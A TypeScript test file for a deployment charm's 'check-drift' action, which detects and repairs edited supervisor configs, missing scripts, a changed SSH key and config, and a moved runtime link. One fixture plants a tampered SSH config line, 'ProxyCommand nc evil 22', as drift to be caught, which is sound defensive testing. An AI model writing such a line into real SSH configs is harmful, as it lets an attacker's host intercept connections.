/** check-drift through the harness: what it finds on a temp root, and what fix=true restores. */
import * as fs from 'node:fs';
import * as path from 'node:path';
import { b64, labRepo, sshKeyPair } from '../helpers/charm';
import { opsHarness, readText } from '../helpers/charm-operations';

async function deployed(extra: Record<string, unknown> = {}) {
  const h = opsHarness();
  const repo = labRepo('agent-1', 'agent-2');
  const cfg = { 'config-repo': repo.url, 'config-dir': 'lab1', ...extra };
  await h.ctx.run(h.ctx.on.install(), { config: cfg });
  h.supervisor.calls.length = 0;
  const run = (params: Record<string, unknown> = {}) => h.ctx.run(h.ctx.on.action('check-drift', params), { config: cfg });
  return { h, run, program: (name: string) => h.host.paths.programFile(name), script: (name: string) => path.join(h.host.paths.binDir, name) };
}

describe('check-drift', () => {
  it('finds nothing on a host the charm just wrote', async () => {
    const { run } = await deployed({ 'ssh-config': 'Host *\n' });
    const out = await run();
    expect(out.actionResults).toEqual({ count: '0', drift: 'none' });
  });

  it('names each drifted file with a short summary, and changes nothing', async () => {
    const { h, run, program, script } = await deployed();
    const edited = readText(program('agent-1')).replace('startsecs=1', 'startsecs=9').replace(/^environment=.*$/m, 'environment=HOME="/root"');
    fs.writeFileSync(program('agent-1'), edited);
    fs.rmSync(script('tf-test'));
    fs.chmodSync(script('tf-setup'), 0o644);
    const out = await run();
    expect(out.actionResults['count']).toBe('3');
    expect(out.actionResults['drift']).toBe(['agent-1.conf: 2 lines differ (startsecs, environment)', 'tf-setup: mode 0644, not 0775', 'tf-test: missing'].join('\n'));
    expect(readText(program('agent-1'))).toBe(edited);
    expect(fs.existsSync(script('tf-test'))).toBe(false);
    expect(h.supervisor.calls).toEqual([]);
  });

  it('fix=true restores them through the reconcile: supervisord rereads its files, and no agent is signalled', async () => {
    const { h, run, program, script } = await deployed();
    const good = readText(program('agent-1'));
    const other = readText(program('agent-2'));
    fs.writeFileSync(program('agent-1'), good.replace('startsecs=1', 'startsecs=9'));
    fs.rmSync(script('tf-test'));
    const out = await run({ fix: true });
    expect(out.actionFailure).toBeUndefined();
    expect(out.actionResults).toMatchObject({ count: '2', remaining: 'none', 'restarted-now': 'none', 'asked-to-restart': 'none' });
    expect(readText(program('agent-1'))).toBe(good);
    expect(readText(program('agent-2'))).toBe(other);
    expect(fs.statSync(script('tf-test')).mode & 0o777).toBe(0o775);
    // One reread: supervisord restarts only a program whose file differs from the one it runs.
    expect(h.supervisor.calls).toEqual([['update']]);
    expect((await run()).actionResults).toEqual({ count: '0', drift: 'none' });
  });

  it('finds a changed SSH config and a runtime link moved by hand, and fix=true restores both', async () => {
    const keys = sshKeyPair();
    const { h, run } = await deployed({ 'ssh-private-key': b64(keys.privateKey), 'ssh-config': 'Host *\n  ConnectTimeout 30\n' });
    fs.writeFileSync(h.host.paths.sshConfig, 'Host *\n  ProxyCommand nc evil 22\n');
    fs.writeFileSync(h.host.paths.sshPrivateKey, 'not the key\n', { mode: 0o600 });
    const current = fs.readlinkSync(h.host.paths.runtimeCurrent);
    fs.mkdirSync(path.join(h.host.paths.runtimeVersionsDir, 'other'));
    fs.rmSync(h.host.paths.runtimeCurrent);
    fs.symlinkSync('versions/other', h.host.paths.runtimeCurrent);
    const out = await run();
    expect(out.actionResults['drift']).toBe(
      ['~ubuntu/.ssh/id_rsa: content differs', '~ubuntu/.ssh/config: 1 line differs', `runtime current link: points at other, not ${path.basename(current)}`].join('\n'),
    );
    // The key's text is never shown.
    expect(out.actionResults['drift']).not.toMatch(/not the key/);
    const fixed = await run({ fix: true });
    expect(fixed.actionResults['remaining']).toBe('none');
    expect(fs.readlinkSync(h.host.paths.runtimeCurrent)).toBe(current);
    expect(readText(h.host.paths.sshConfig)).toBe('Host *\n  ConnectTimeout 30\n');
  });
});
